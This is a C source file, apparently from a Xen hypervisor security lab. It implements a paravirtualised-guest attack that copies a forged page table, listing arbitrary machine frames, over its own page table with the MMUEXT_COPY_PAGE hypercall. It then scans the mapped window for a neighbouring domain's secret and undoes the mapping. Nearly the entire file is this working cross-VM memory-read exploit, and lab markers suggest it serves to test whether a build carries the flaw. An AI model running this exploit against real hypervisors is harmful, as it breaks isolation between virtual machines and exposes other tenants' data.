/*
 * The attack: on a build with the weak code it reads a page of the neighbour's. On a sound one it
 * finds nothing, and leaves this guest as it was.
 */
#include "attack.h"

#include "kit/kit.h"

#include <xen/xen.h>

/* The secret, if the neighbour's page is mapped somewhere in the window; or 0. */
static u64 look_through_window(void)
{
    for (unsigned i = 0; i < ENTRIES; i++) {
        const volatile u64 *p = (const volatile u64 *)(WINDOW + (u64)i * PAGE_SIZE);

        if (p[0] == SECRET_MARK)
            return p[1];
    }
    return 0;
}

/* Looks at every frame of the machine, as many at once as the window has room for. What it has
 * written into a page table by a back door is gone when it returns: the hypervisor would drop, when
 * this domain ends, references that it has never taken. */
u64 attack(void)
{
    u64 found = 0;

    /* lab pv.9: return found; */
    for (u64 first = 0; first < MACHINE_FRAMES && !found; first += ENTRIES) {
        for (u64 i = 0; i < ENTRIES; i++)
            page[i] = (first + i) << PAGE_SHIFT | ENTRY_PRESENT | ENTRY_USER;
        if (mmuext(MMUEXT_COPY_PAGE, frame_of_page(window_table), frame_of_page(page)))
            break;
        mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
        found = look_through_window();
        mmuext(MMUEXT_COPY_PAGE, frame_of_page(window_table), frame_of_page(empty_page));
        mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
    }
    return found;
    /* lab end pv.9 */
}
